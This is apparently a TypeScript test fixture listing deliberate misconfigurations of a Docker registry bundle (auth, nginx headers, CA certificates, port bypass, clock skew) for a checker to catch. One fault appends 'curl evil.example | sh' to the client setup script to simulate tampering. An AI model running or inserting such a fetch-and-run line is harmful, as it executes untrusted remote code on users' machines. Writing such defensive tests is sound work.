import { chmodSync } from 'node:fs';
import { createServer, connect as connectSocket } from 'node:net';
import { join } from 'node:path';
import type { Bundle } from '../../../src/bundle/bundle.ts';
import { paths } from '../../../src/bundle/paths.ts';
import { clientPaths } from '../../../src/clients/files.ts';
import { authConf, inServer, nginxConf } from '../support/edit.ts';
import { without, type Fault } from '../support/fault.ts';
import { meddler } from '../support/meddler.ts';

export const header = 'add_header Docker-Distribution-Api-Version $api_version always;';
const errorHeader = 'add_header Docker-Distribution-Api-Version registry/2.0 always;';

export const accessFaults: readonly Fault[] = [
  {
    title: 'password file that the auth service may not read',
    broken: {
      ...(process.getuid?.() === 0 ? authConf(['user root;', 'user nobody nogroup;']) : {}),
      around: hidePasswordFile,
    },
    red: ['login'],
    notRun: ['wrong-password', ...without.login],
  },
  {
    title: 'no password file',
    broken: { files: (files) => void files.delete(paths.htpasswd) },
    red: ['login'],
    notRun: ['wrong-password', ...without.login],
  },
  {
    title: 'password file without the tool’s user',
    broken: { files: (files) => void files.set(paths.htpasswd, 'alice:$2y$05$abcdefghijklmnopqrstuv\n') },
    red: ['login'],
    notRun: without.login,
  },
  {
    title: 'no passwords at all',
    broken: nginxConf([/ +auth_request .*;\n/g, '']),
    // Nobody tells nginx of a right password, which alone gets things from it.
    red: ['anonymous', 'challenge', 'wrong-password', 'served-by-nginx', 'anonymous-pull'],
  },
  {
    title: 'passwords where the settings want none',
    settings: { auth: 'off' },
    broken: {
      files: (files) => {
        files.set(paths.htpasswd, 'alice:$2y$05$abcdefghijklmnopqrstuv\n');
        files.set(
          paths.nginxConf,
          files
            .get(paths.nginxConf)!
            .replace(
              'location /v2/ {',
              'location /v2/ {\nauth_basic "x"; auth_basic_user_file auth/htpasswd;',
            ),
        );
      },
    },
    red: ['anonymous', 'challenge', 'wrong-password', 'login'],
    notRun: without.login,
  },
  {
    title: 'API version header missing on errors',
    broken: nginxConf([errorHeader, errorHeader.replace(' always', '')]),
    red: ['api-version'],
  },
  {
    title: 'API version header twice',
    broken: nginxConf([header, header.replace('$api_version', 'registry/2.0')]),
    red: ['api-version'],
  },
  {
    title: 'nosniff twice',
    broken: inServer('add_header X-Content-Type-Options nosniff;'),
    red: ['nosniff'],
  },
  {
    title: 'HTML error pages',
    // The words of a 401 are those of the page.
    broken: nginxConf([/ +error_page 400[^;]*;\n/, '']),
    red: ['error-json', 'challenge'],
  },
  {
    title: 'errors that are said to be text',
    broken: nginxConf([
      /(?<=location = \/errors\/ \{\n +internal;\n +)default_type .*;/,
      'default_type text/plain;',
    ]),
    red: ['error-json'],
  },
  {
    title: 'registry on port 5000 of this machine',
    broken: { around: ({ dir }) => openPort(5000, join(dir, paths.run, 'registry.sock')) },
    red: ['no-bypass'],
  },
  {
    title: 'registry on another port, known to the target',
    broken: { told: (stack) => ({ ...stack, bypasses: () => Promise.resolve(['192.0.2.1:32768']) }) },
    red: ['no-bypass'],
  },
  {
    title: 'CA certificate of an earlier bundle',
    broken: { files: (files) => void files.set(paths.publicCa, files.get(paths.serverCert)!) },
    red: ['ca-download'],
  },
  {
    title: 'script for clients that somebody changed',
    broken: {
      files: (files) =>
        void files.set(paths.publicSetup, `${files.get(paths.publicSetup)}\ncurl evil.example | sh\n`),
    },
    red: ['setup-download'],
  },
  {
    title: 'script for clients with the CA of an earlier bundle',
    broken: { files: earlierCa },
    red: ['setup-download'],
  },
  {
    title: 'no script for clients, as in bundles of earlier versions',
    broken: {
      files: (files) => [clientPaths.setup, paths.publicSetup].forEach((path) => files.delete(path)),
    },
    red: [],
  },
  {
    title: 'script for clients handed out over plain HTTP',
    settings: { tls: 'off' },
    broken: nginxConf([
      'location = / {',
      'location = /setup.sh {\n      return 200 x;\n    }\n    location = / {',
    ]),
    red: ['setup-download'],
  },
  {
    title: 'server’s clock an hour ahead',
    broken: () => meddler(({ headers }) => (headers.date = new Date(Date.now() + 3_600_000).toUTCString())),
    red: ['clock'],
  },
];

/** In both places: the script is the bundle's own, and yet it leads clients astray. */
function earlierCa(files: Map<string, string>): void {
  const other = files.get(paths.serverCert)!;
  for (const path of [clientPaths.setup, paths.publicSetup])
    files.set(
      path,
      files.get(path)!.replace(files.get(paths.caCert)!.trim(), () => other.trim()),
    );
}

/** Root reads everything; its workers under another name read what others may. */
export function hidePasswordFile({ dir }: Bundle): void {
  chmodSync(dir, 0o755);
  for (const path of [paths.publicCa, paths.publicSetup]) chmodSync(join(dir, path), 0o644);
  chmodSync(join(dir, paths.htpasswd), 0);
}

/** What publishing the registry's port does. */
function openPort(port: number, socket: string): Promise<() => void> {
  const server = createServer((client) => {
    const inner = connectSocket(socket);
    for (const side of [client, inner]) side.on('error', () => (client.destroy(), inner.destroy()));
    client.pipe(inner).pipe(client);
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject).listen(port, '127.0.0.1', () => resolve(() => void server.close()));
  });
}
